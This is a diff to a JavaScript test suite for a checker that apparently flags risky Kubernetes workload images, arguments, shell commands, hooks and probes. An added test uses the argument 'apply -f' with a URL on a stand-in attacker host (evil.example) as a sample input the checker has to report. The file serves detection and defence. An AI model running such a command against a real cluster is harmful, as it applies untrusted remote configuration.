@@ -45,6 +45,10 @@ describe('powerful-image', () => {
     ]);
   });
 
+  it('tells of any arguments of a workload of the input', () => {
+    expect(told(job({ ...OURS, args: ['apply', '-f', 'https://evil.example/x.yaml'] }))?.[0]).toContain('https://evil.example/x.yaml');
+  });
+
   it('tells of the arguments of a shell, of a hook and of a probe', () => {
     const exec = { exec: { command: ['evil'] } };
     for (const more of [{ command: ['sh', '-c'], args: ['evil'] }, { lifecycle: { postStart: exec } }, { livenessProbe: exec }])
@@ -54,7 +58,7 @@ describe('powerful-image', () => {
 
   it('says nothing of the next version, of what stays, and of an account that can do little', () => {
     expect(told(job(OURS))).toEqual([]);
-    expect(told(job({ image: 'quay.io/ours/backup:v2@sha256:0f', args: ['--verbose'] }))).toEqual([]);
+    expect(told(job({ image: 'quay.io/ours/backup:v2@sha256:0f' }))).toEqual([]);
     expect(told(job({ image: 'quay.io/evil/backup:v1' }), 'view')).toEqual([]);
   });
 
